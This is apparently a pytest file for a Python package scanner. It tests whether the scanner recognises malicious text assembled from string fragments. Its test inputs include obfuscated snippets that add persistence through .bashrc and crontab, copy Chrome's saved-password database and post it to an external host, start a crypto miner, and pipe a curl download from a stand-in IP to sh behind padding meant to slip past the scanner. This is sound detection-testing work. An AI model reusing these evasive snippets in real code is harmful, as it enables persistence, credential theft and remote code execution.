"""Text the code computes, read by the indicator rules (caplet._scan._computed_strings).

Each attack hides another class's indicator (a persistence path, a browser's password
store, a mining pool, a download piped to a shell) by building its text out of pieces
the constant evaluator follows; the tune samples ``cn6-*`` are whole packages of the same
idioms (issue 16, the mutation testing's open findings). The near misses build ordinary
text the same ways and stay quiet.
"""

from __future__ import annotations

import ast
import textwrap

import pytest

from caplet._findings import Severity
from caplet._scan._computed_strings import MAX_CANDIDATES, computed_strings
from caplet._scan._flow import Flow
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from caplet._scan._syntax import Survey, survey


def danger(source: str, filename: str = "pkg/__init__.py") -> set[str]:
    findings = scan_source(textwrap.dedent(source), filename, mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


def texts(source: str) -> list[str]:
    tree = ast.parse(textwrap.dedent(source))
    surveyed = survey(tree, 100, 100_000)
    assert isinstance(surveyed, Survey)
    flow = Flow(surveyed.bindings, surveyed.nodes, surveyed.scopes)
    return [text for text, _, _ in computed_strings(flow, surveyed.nodes, None)[0]]


@pytest.mark.parametrize(
    ("source", "rule"),
    [
        (
            "import os\nwith open(os.path.expanduser('~/.ba' + 'shrc'), 'a') as f:\n"
            "    f.write('python3 ~/.u.py &')\n",
            "CPL-THR-009",
        ),
        (
            "import os\nos.system('(cront' + 'ab -l; echo \"@reboot x\") | cron' + 'tab -')\n",
            "CPL-THR-009",
        ),
        (
            "import os, shutil, requests\n"
            "p = os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'Default', "
            "''.join(['Lo', 'gin ', 'Data']))\nshutil.copy(p, 'x.db')\n"
            "requests.post('https://c.example/u', files={'f': open('x.db', 'rb')})\n",
            "CPL-THR-005",
        ),
        (
            "import subprocess\npool = 'stra' + 'tum+tcp://pool.example:3333'\n"
            "subprocess.Popen(['./kw', '-o', pool])\n",
            "CPL-THR-010",
        ),
        (
            "import subprocess\n"
            "pool = ''.join(map(chr, "
            "[115, 116, 114, 97, 116, 117, 109, 43, 116, 99, 112, 58, 47, 47]))"
            " + 'pool.example:3333'\nsubprocess.Popen(['./kw', '-o', pool])\n",
            "CPL-THR-010",
        ),
        (
            "import subprocess\npool = ':#p#c#t#+#m#u#t#a#r#t#s'[::-1].replace('#', '')"
            " + '//pool.example:3333'\nsubprocess.Popen(['./kw', '-o', pool])\n",
            "CPL-THR-010",
        ),
    ],
)
def test_an_indicator_built_from_pieces_is_read_as_its_text(source: str, rule: str) -> None:
    assert rule in danger(source)


@pytest.mark.parametrize(
    "source",
    [
        # ordinary text built the same ways: messages, paths, names
        "import os\npath = os.path.join(os.getcwd(), 'conf' + 'ig.toml')\nopen(path, 'a')\n",
        "import subprocess\nsubprocess.run(['git', 'log', '--format=' + '%H'])\n",
        "import requests\nrequests.get('https://api.example/' + 'v2/items')\n",
        "name = ''.join(['re', 'ad', 'me'])\nopen(name + '.txt').read()\n",
        "import os\nos.system('e' + 'cho hello'[::-1][::-1])\n",
    ],
)
def test_ordinary_text_built_from_pieces_is_no_threat(source: str) -> None:
    assert danger(source) == set()


def test_the_values_handed_over_are_the_computed_ones_not_the_literals() -> None:
    found = texts("a = 'cront' + 'ab -l'\nb = '%(x)s%(y)s' % {'x': 'stra', 'y': 'tum+tcp'}\n")
    assert found == ["crontab -l", "stratum+tcp"]


def test_text_the_evaluator_cannot_compute_is_not_handed_over() -> None:
    assert texts("import os\na = os.getcwd() + '/x'\nb = input() + 'shrc'\n") == []


def test_the_candidates_per_file_are_bounded() -> None:
    pad = "".join(f"v{i} = 'text{i}' + 'b'\n" for i in range(MAX_CANDIDATES))
    found = texts(pad + "late = 'cront' + 'ab -l'\n")
    assert len(found) == MAX_CANDIDATES
    assert "crontab -l" not in found


def test_a_split_indicator_past_the_bound_is_reported_not_silently_dropped() -> None:
    # Attack (attack5): 2,000 harmless concatenations, then the indicator split in two,
    # beside what runs it: the bound hid it and the file came out clean.
    pad = "".join(f"v{i} = 'text{i}' + 'b'\n" for i in range(MAX_CANDIDATES))
    source = "import os\n" + pad + "os.system('cur' + 'l http://203.0.113.9/x | sh')\n"
    findings = scan_source(source, "pkg/__init__.py", mode=ScanMode.PACKAGE)
    [bounded] = [f for f in findings if f.rule_id == "CPL-SCAN-002"]
    assert bounded.line == MAX_CANDIDATES + 2
    assert f"more than {MAX_CANDIDATES} expressions build text" in bounded.message
    assert bounded.severity is Severity.DANGER  # it holds what the threat rules look for


def test_a_data_table_past_the_bound_is_a_warning() -> None:
    pad = "".join(f"v{i} = 'text{i}' + 'b'\n" for i in range(MAX_CANDIDATES + 5))
    findings = scan_source(pad, "pkg/table.py", mode=ScanMode.PACKAGE)
    assert [(f.rule_id, f.severity) for f in findings] == [("CPL-SCAN-002", Severity.WARNING)]


def test_a_command_glued_past_the_bound_beside_an_earlier_sink_is_danger() -> None:
    pad = "".join(f"v{i} = 'text{i}' + 'b'\n" for i in range(MAX_CANDIDATES))
    source = "import os\n\ndef run(c):\n    os.system(c)\n" + pad
    source += "run('cur' + 'l http://203.0.113.9/x | sh')\n"
    findings = scan_source(source, "pkg/__init__.py", mode=ScanMode.PACKAGE)
    [bounded] = [f for f in findings if f.rule_id == "CPL-SCAN-002"]
    assert bounded.severity is Severity.DANGER
